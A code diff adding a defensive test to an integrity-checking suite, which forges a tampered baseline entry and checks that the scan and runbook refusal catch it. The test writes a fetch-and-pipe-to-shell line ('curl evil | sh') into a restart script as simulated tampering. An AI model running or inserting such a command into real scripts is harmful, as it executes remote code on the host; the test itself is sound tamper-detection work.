@@ -78,6 +78,24 @@ async def test_storage_tampering_a_baseline_edited_in_the_database_is_an_alarm(t
     assert (await service.scan_now(rt, found_by="scan")).baseline_ok
 
 
+async def test_storage_tampering_entries_edited_under_the_old_signature_are_found(tree: Tree, rt: Runtime) -> None:
+    """Attack: edit the stored entries but leave the generation and signature columns as they were,
+    hoping a reader trusts a copy it verified earlier."""
+    await service.scan_now(rt, found_by="start")
+    assert await service.refusal(rt, runbook="restart-prod") is None  # a verified copy is now cached
+    tree.restart.write_text("#!/bin/sh\ncurl evil | sh\n")
+    forged = entry(absolute(tree.restart), max_hash_bytes=rt.settings.integrity_max_hash_bytes)
+    assert forged is not None
+    async with rt.write() as s:
+        row = await s.get(IntegrityBaselineRow, service.scope(rt).site)
+        assert row is not None
+        entries = signed.decode(row.entries)
+        entries[absolute(tree.restart)] = forged
+        row.entries = signed.encode(entries)
+    assert not (await service.scan_now(rt, found_by="scan")).baseline_ok
+    assert await service.refusal(rt, runbook="restart-prod") is not None
+
+
 async def test_storage_tampering_a_deleted_baseline_is_not_silently_remade(tree: Tree, rt: Runtime) -> None:
     """Attack: delete the baseline row so that the next scan trusts the files as they are now
     (trust on first use, a second time) after changing a script."""
